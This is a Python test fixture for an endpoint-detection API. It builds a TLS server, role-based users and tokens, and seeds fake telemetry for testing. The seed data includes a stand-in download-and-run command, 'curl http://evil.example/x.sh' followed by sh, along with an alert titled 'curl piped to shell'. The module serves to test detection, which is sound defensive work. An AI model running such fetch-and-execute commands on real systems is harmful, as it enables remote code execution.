"""Test environment for the API: a real SQLite state directory, users of every role, seed data."""

from __future__ import annotations

import functools
import socket
import ssl
import time
import warnings
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
from fastapi import FastAPI

from aurora.api import create_app
from aurora.api.auth import hash_password, hash_secret, new_api_token, now_ms
from aurora.api.server import ApiServer, tls_files
from aurora.collector.store.accounts import SQLiteAccounts
from aurora.collector.store.base import HostRecord, IncomingBatch, NewAlert
from aurora.collector.store.sqlite import SQLiteStore
from aurora.config import AuroraConfig

PASSWORD = "correct horse battery"
ROLES = ("admin", "analyst", "viewer")
SENSOR = "sensor-0001"


@dataclass
class Env:
    state_dir: Path
    store: SQLiteStore
    accounts: SQLiteAccounts
    app: FastAPI
    server: ApiServer
    tokens: dict[str, str]
    clients: list[httpx.Client]

    @functools.cached_property
    def ca(self) -> ssl.SSLContext:
        return ssl.create_default_context(cafile=str(self.state_dir / "pki" / "ca.crt"))

    def client(self, role: str | None = None) -> httpx.Client:
        """A client authenticated with ``role``'s API token (anonymous when None)."""
        c = httpx.Client(base_url=self.server.url, verify=self.ca, timeout=30)
        if role is not None:
            c.headers["Authorization"] = f"Bearer {self.tokens[role]}"
        self.clients.append(c)
        return c

    def browser(self, role: str) -> tuple[httpx.Client, str]:
        """A client logged in with a session cookie, and its CSRF token."""
        c = self.client()
        r = c.post("/api/v1/login", json={"name": role, "password": PASSWORD})
        assert r.status_code == 200, r.text
        return c, r.json()["csrf_token"]

    def close(self) -> None:
        for c in self.clients:
            c.close()
        self.server.stop()
        self.accounts.close()
        self.store.close()


def all_routes(routes: list[Any]) -> Iterator[Any]:
    """The app's routes, descending into included routers (FastAPI keeps them nested)."""
    for route in routes:
        nested = getattr(route, "original_router", None)
        if nested is not None:
            yield from all_routes(nested.routes)
        else:
            yield route


def old_tls_client() -> ssl.SSLContext:
    """A client that offers only TLS 1.0/1.1 (SECLEVEL=0 lets it really offer them), so a failed
    handshake is the server's refusal."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_ciphers("DEFAULT:@SECLEVEL=0")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # deprecated is what we test
        ctx.minimum_version = ssl.TLSVersion.TLSv1
        ctx.maximum_version = ssl.TLSVersion.TLSv1_1
    return ctx


def old_tls_refused(port: int) -> bool:
    """True when the server on ``port`` refuses a TLS 1.0/1.1-only handshake."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as raw:
        try:
            old_tls_client().wrap_socket(raw, server_hostname="localhost").close()
        except (ssl.SSLError, ConnectionResetError):
            return True
    return False


@functools.cache
def _password_hash() -> str:
    # argon2 is slow by design; one hash serves every test user (salts need not differ here).
    return hash_password(PASSWORD)


def make_env(tmp: Path, config: AuroraConfig | None = None) -> Env:
    store = SQLiteStore(tmp / "aurora.db")
    accounts = SQLiteAccounts(tmp / "aurora.db")
    app = create_app(store, config or AuroraConfig(), tmp, accounts=accounts)
    tokens = {}
    for role in ROLES:
        user = accounts.add_user(role, role, _password_hash(), now_ms())
        token = new_api_token()
        accounts.add_api_token(hash_secret(token), user.user_id, "test", now_ms(), 0)
        tokens[role] = token
    api = (config or AuroraConfig()).api
    cert, key = tls_files(api, tmp)
    server = ApiServer(
        app,
        "127.0.0.1:0",
        cert,
        key,
        trusted_proxies=api.trusted_proxies,
        request_head_timeout_s=api.request_head_timeout_s,
    )
    server.start()
    return Env(tmp, store, accounts, app, server, tokens, [])


def launch(pid: int, ppid: int, name: str, t: int, cmd: str = "") -> dict[str, Any]:
    """A Process Launch event shaped as the Linux sensor emits it."""
    return {
        "class_uid": 1007,
        "class_name": "Process Activity",
        "activity_id": 1,
        "time": t,
        "device": {"hostname": "web-1"},
        "process": {
            "pid": pid,
            "name": name,
            "cmd_line": cmd or name,
            "file": {"path": f"/usr/bin/{name}", "name": name},
            "user": {"name": "root"},
            "parent_process": {"pid": ppid},
        },
        "actor": {"process": {"pid": ppid}},
    }


def seed(env: Env) -> dict[str, Any]:
    """One host with a process chain systemd(1) > sshd(100) > bash(200) > curl(300) + sh(301),
    a DNS event of curl, and an alert on curl."""
    t0 = int(time.time() * 1000) - 60_000
    env.store.register_host(
        HostRecord(
            sensor_id=SENSOR,
            hostname="web-1",
            os_name="Debian",
            os_version="12",
            enrolled_ms=t0,
            last_seen_ms=t0,
            connected=True,
            health="ok",
            isolation="none",
            capabilities=({"name": "process", "state": "available", "reason": ""},),
        )
    )
    events = [
        launch(1, 0, "systemd", t0),
        launch(100, 1, "sshd", t0 + 1000),
        launch(200, 100, "bash", t0 + 2000),
        launch(300, 200, "curl", t0 + 3000, "curl http://evil.example/x.sh"),
        launch(301, 200, "sh", t0 + 3100),
        {
            "class_uid": 4003,
            "class_name": "DNS Activity",
            "time": t0 + 3200,
            "device": {"hostname": "web-1"},
            "process": {"pid": 300, "name": "curl"},
            "query": {"hostname": "evil.example"},
        },
    ]
    env.store.ingest([IncomingBatch(SENSOR, 1, events, received_ms=t0 + 4000)])
    finding = {
        "class_uid": 2004,
        "severity_id": 4,
        "device": {"hostname": "web-1"},
        "attacks": [{"technique": {"uid": "T1105"}}],
        "finding_info": {"analytic": {"uid": "rule-curl"}, "title": "curl piped to shell"},
        "evidences": [{"process": {"pid": 300, "name": "curl"}, "data": events[3]}],
    }
    [alert_id] = env.store.add_alerts(
        [NewAlert("rule-curl", SENSOR, "k1", 4, "curl piped to shell", t0 + 3000, finding)]
    )
    return {"t0": t0, "alert_id": alert_id, "events": events}
